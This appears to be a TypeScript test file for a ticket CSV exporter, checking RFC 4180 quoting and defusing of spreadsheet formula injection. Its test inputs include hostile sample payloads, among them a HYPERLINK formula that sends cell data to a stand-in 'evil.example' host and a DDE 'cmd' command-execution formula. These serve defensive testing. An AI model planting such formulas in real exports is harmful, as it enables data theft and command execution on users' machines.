import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { csvHeader, csvRow, type CsvTicket } from './csv.ts'

const ticket: CsvTicket = {
  id: 7,
  title: 'Printer is offline',
  description: null,
  status: 'closed',
  createdAt: new Date('2026-11-03T09:05:00Z'),
  email: 'mia@acme.example',
}

test('the header is the one of the spec', () => {
  assert.equal(csvHeader, 'ID,Title,Description,Status,Created At,User Email\r\n')
})

test('text is quoted, the id is bare, no description is an empty text', () => {
  assert.equal(csvRow(ticket), '7,"Printer is offline","","closed","2026-11-03T09:05:00.000Z","mia@acme.example"\r\n')
})

test('quotes are doubled; commas and line breaks stay inside the cell', () => {
  const row = csvRow({ ...ticket, title: 'The "new" one, again', description: 'one\r\ntwo\nthree' })
  assert.ok(row.startsWith('7,"The ""new"" one, again","one\r\ntwo\nthree",'))
})

const formulas = [
  '=1+1',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '\ttext',
  '\rtext',
  '\ntext',
  '\0text',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM',
  '﹦1',
  '﹫SUM',
  ' =1',
  '  \n =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '\u202e@x',
  '\u0001=1',
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  "=cmd|' /C calc'!A0",
  '-',
  '+49 761 123',
]

/** With the `'` that stands at the beginning, and behind each separator that a formula follows. */
const defused = (text: string): string => `'${text.replace(/([;\t\r\n])([^;\t\r\n]?=)/g, "$1'$2")}`

for (const text of formulas) {
  test(`${JSON.stringify(text)} opens as text`, () => {
    for (const field of ['title', 'description', 'email', 'status'] as const) {
      const [cells] = parse(csvRow({ ...ticket, [field]: text }))
      assert.ok(cells?.includes(defused(text)), field)
    }
  })
}

const within: [text: string, written: string][] = [
  ['x;=HYPERLINK("http://evil.example")', `x;'=HYPERLINK("http://evil.example")`],
  ['x;"=1"', `x;'"=1"`],
  ['x; \u200b =1', `x;' \u200b =1`],
  ['x;;;=1', `x;;;'=1`],
  ['x\n=1', `x\n'=1`],
  ['x\r\n=1', `x\r\n'=1`],
  ['x\t@SUM(A1)', `x\t'@SUM(A1)`],
  ['x;＝1', `x;'＝1`],
  ['x;a=1', 'x;a=1'],
  ['x;1-2', 'x;1-2'],
  ['one; two\nthree', 'one; two\nthree'],
  ['x,=1', 'x,=1'],
  ["x;'=1", "x;'=1"],
]

for (const [text, written] of within) {
  test(`${JSON.stringify(text)} begins no formula in a spreadsheet that splits it`, () => {
    assert.equal(parse(csvRow({ ...ticket, title: text }))[0]?.[1], written)
  })
}

// Where the decimal sign is a comma: cells end at semicolons, and quotes count only at the beginning of one, or not at all.
function cellsOf(text: string, separator: ';' | '\t', honoursQuotes: boolean): string[] {
  const cells: string[] = []
  let at = 0
  while (at <= text.length) {
    let cell = ''
    if (honoursQuotes && text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at]
        else if (text[at + 1] === '"') cell += text[++at]
        else break
      }
      at++
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') cell += text[at++]
    cells.push(honoursQuotes ? cell : cell.replace(/^"*/, ''))
    at++
  }
  return cells
}

test('in no way of splitting it does a text begin a formula', () => {
  const unit = fc.constantFrom('"', ';', '\r', '\n', '=', '+', '-', '@', '\t', ' ', "'", 'a', ',', '＝', '\u200b', '\0')
  const row = fc.record({ title: fc.string({ unit }), description: fc.string({ unit }) })
  fc.assert(
    fc.property(fc.array(row, { minLength: 1, maxLength: 3 }), (rows) => {
      const file = csvHeader + rows.map((one) => csvRow({ ...ticket, ...one })).join('')
      for (const separator of [';', '\t'] as const) {
        for (const honoursQuotes of [true, false]) {
          for (const cell of cellsOf(file, separator, honoursQuotes)) {
            assert.doesNotMatch(cell, /^["\s\p{Cc}\p{Cf}]*[=+\-@＝]/u, JSON.stringify([cell, file]))
          }
        }
      }
    }),
    { numRuns: 3000 },
  )
})

for (const text of ['a=1', '1-2', ' plain', 'mia@acme.example', "'quoted", '"=1"', ',=1', '😀', 'é']) {
  test(`${JSON.stringify(text)} stays as it is`, () => {
    assert.equal(parse(csvRow({ ...ticket, title: text }))[0]?.[1], text)
  })
}

test('any 1,000 rows come back from an RFC 4180 parser', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({
      unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', ' ', "'", 'a', '😀', '＝', ';'),
    }),
  )
  const row = fc.record({
    id: fc.nat(),
    title: text,
    description: fc.option(text),
    status: fc.constantFrom('open', 'closed'),
    createdAt: fc.date({ noInvalidDate: true, min: new Date(0), max: new Date('2100-01-01') }),
    email: fc.emailAddress(),
  })
  const rows = fc.array(row, { minLength: 5, maxLength: 5 })
  fc.assert(
    fc.property(rows, (tickets) => {
      const parsed = parse(csvHeader + tickets.map(csvRow).join(''))
      assert.equal(parsed.length, tickets.length + 1)
      tickets.forEach((one, index) => {
        const [id, title, description, status, createdAt, email, ...rest] = parsed[index + 1]!
        assert.deepEqual([id, status, createdAt], [String(one.id), one.status, one.createdAt.toISOString()])
        assert.deepEqual(rest, [])
        assertSameOrDefused(title!, one.title)
        assertSameOrDefused(description!, one.description ?? '')
        assertSameOrDefused(email!, one.email)
      })
    }),
    { numRuns: 200 },
  )
})

test('a description of 100,000 characters survives', () => {
  const description = 'a "b", c\r\n😀 '.repeat(8000)
  assert.equal(parse(csvRow({ ...ticket, description }))[0]?.[2], description)
})

function assertSameOrDefused(cell: string, original: string): void {
  assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]|^[\t\r\n\0]/)
  if (cell === original) return
  if (!/[;\t\r\n]/.test(original)) assert.equal(cell, `'${original}`)
  // Nothing but a ' is ever put in.
  assert.equal(cell.replaceAll("'", ''), original.replaceAll("'", ''))
}

/** A strict RFC 4180 reader: CRLF between records, quotes only around whole cells. */
function parse(text: string): string[][] {
  const records: string[][] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  let record: string[] = []
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex
    const match = cell.exec(text)
    assert.ok(match, `not RFC 4180 at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`)
    record.push(match[1]?.replaceAll('""', '"') ?? match[2]!)
    if (match[3] === ',') continue
    records.push(record)
    record = []
  }
  assert.deepEqual(record, [])
  return records
}
